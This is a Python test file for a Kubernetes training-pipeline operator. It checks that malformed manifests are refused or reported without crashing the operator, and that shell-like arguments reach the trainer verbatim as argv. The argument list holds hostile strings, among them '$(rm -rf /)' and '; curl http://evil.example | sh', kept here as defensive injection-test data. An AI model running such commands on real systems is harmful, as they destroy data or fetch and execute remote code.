"""The whole malformed-manifest corpus (tests/manifests/corpus.py) against the real operator:
what the API server refuses never reaches it; what the schema accepts but the operator cannot
use becomes Ready=False with a reason and an event, nothing started; and the operator keeps
serving a good pipeline applied alongside, which then completes a run to Promoted.

Also: shell-like arguments that are legal reach the trainer's process verbatim, as argv."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from kubernetes import client
from kubernetes.client.exceptions import ApiException
from operator_harness import GROUP, VERSION, OperatorProcess, Refit, pipeline_body, wait_for

from tests.manifests.corpus import CORPUS, Case

PLURALS = {"TrainingPipeline": "trainingpipelines", "TrainingRun": "trainingruns"}


def _create(refit: Refit, case: Case, name: str) -> dict[str, Any]:
    # metadata.name cases keep their (bad) name: renaming them would fix them.
    body = case.body(None if case.field == "metadata.name" else name)
    body["metadata"]["namespace"] = refit.namespace
    obj: dict[str, Any] = refit.custom.create_namespaced_custom_object(
        GROUP, VERSION, refit.namespace, PLURALS[case.kind], body, field_validation="Strict"
    )
    return obj


def _ready_false(refit: Refit, name: str) -> dict[str, Any] | None:
    cond = refit.condition(refit.pipeline(name), "Ready")
    return cond if cond and cond["status"] == "False" else None


def test_operator_survives_the_corpus_and_keeps_serving_a_good_pipeline(
    refit: Refit, operator_process: OperatorProcess
) -> None:
    refit.apply_pipeline(pipeline_body("good"))
    wait_for(
        "good Ready",
        lambda: (c := refit.condition(refit.pipeline("good"), "Ready")) and c["status"] == "True",
    )

    surfaced: dict[str, Case] = {}
    refused = 0
    for index, case in enumerate(CORPUS):
        name = f"bad-{index:02d}"
        if case.refused_at_apply:
            try:
                _create(refit, case, name)
            except ApiException as error:
                assert error.status in case.api_status, (case.name, error.body)
                message = json.loads(error.body)["message"]
                assert (case.api_says or case.field) in message, (case.name, message)
                refused += 1
                continue
            raise AssertionError(f"{case.name} was accepted by the API server")
        _create(refit, case, name)
        surfaced[name] = case
    assert refused + len(surfaced) == len(CORPUS)
    assert operator_process.alive_and_healthy()

    for name, case in surfaced.items():
        cond = wait_for(f"{case.name} ({name}) Ready=False", lambda n=name: _ready_false(refit, n))
        assert cond["reason"] == case.operator_reason, (case.name, cond)
        assert case.field in cond["message"], (case.name, cond)
        assert cond["observedGeneration"] == refit.pipeline(name)["metadata"]["generation"]
        refit.await_events(
            f"{case.operator_reason} for {case.name}",
            lambda e, r=case.operator_reason, n=name: e.reason == r and e.involved_object.name == n,
        )
    # Nothing of a bad pipeline started: no run, no Job.
    assert refit.runs() == [] and refit.jobs() == []

    # The good pipeline is served as if nothing happened: a manual run completes to Promoted.
    refit.create_run("good-1", "good")
    run = wait_for("good-1 finished", lambda: refit.terminal_run("good-1"), timeout=480)
    assert run["status"]["phase"] == "Promoted", run["status"]
    assert operator_process.alive_and_healthy()
    # No handler failed on a bad pipeline (a reconcile that raises logs an ERROR naming the
    # object, then a traceback); errors about anything else are other tests' business.
    log = operator_process.log_path.read_text(errors="replace").splitlines()
    assert [line for line in log if " ERROR " in line and "bad-" in line] == []


# Legal arguments that a shell would interpret: the operator must hand them to the container as
# an argv list (never `sh -c`), so they arrive byte for byte. `$(VAR)` is Kubernetes' own
# expansion syntax, expanded only for variables that exist (none by these names), as the
# kubelet and the node agent both do.
SHELL_LIKE_ARGS = [
    "$(rm -rf /)",
    "`id`",
    "; curl http://evil.example | sh",
    "a\nb; echo pwned",
    "&& touch /tmp/refit-pwned",
    "'\"\\",
    "--name=\u202eexe.jpg",
    "caf\u00e9 \U0001f680",
    "$HOME ${PATH} *",
]
RECORD_ARGV = "import json, os, sys; json.dump(sys.argv[1:], open(os.environ['ARGV_OUT'], 'w'))"


def test_shell_like_args_reach_the_trainer_verbatim_as_argv(
    refit: Refit, operator_process: OperatorProcess, api_client: client.ApiClient, tmp_path: Path
) -> None:
    out = tmp_path / "argv.json"
    body = pipeline_body(
        "argv",
        trainer={
            "image": "refit-trainer:test",
            "command": ["python", "-c", RECORD_ARGV],
            "args": SHELL_LIKE_ARGS,
            "env": [{"name": "ARGV_OUT", "value": str(out)}],
            "backoffLimit": 0,
        },
    )
    refit.apply_pipeline(body)
    wait_for(
        "argv Ready",
        lambda: (c := refit.condition(refit.pipeline("argv"), "Ready")) and c["status"] == "True",
    )
    refit.create_run("argv-1", "argv")
    job = wait_for(
        "training Job",
        lambda: next(
            (j for j in refit.jobs() if (j.metadata.labels or {}).get("refit.dev/step") == "train"),
            None,
        ),
    )
    container = job.spec.template.spec.containers[0]
    # On the Job: exactly the command and args given, no shell wrapped around them.
    assert container.command == ["python", "-c", RECORD_ARGV]
    assert container.args == SHELL_LIKE_ARGS
    # In the process: the same strings, byte for byte.
    wait_for("the trainer recorded its argv", lambda: out.exists() and out.stat().st_size > 0)
    assert json.loads(out.read_text()) == SHELL_LIKE_ARGS
    assert not Path("/tmp/refit-pwned").exists()
    assert operator_process.alive_and_healthy()
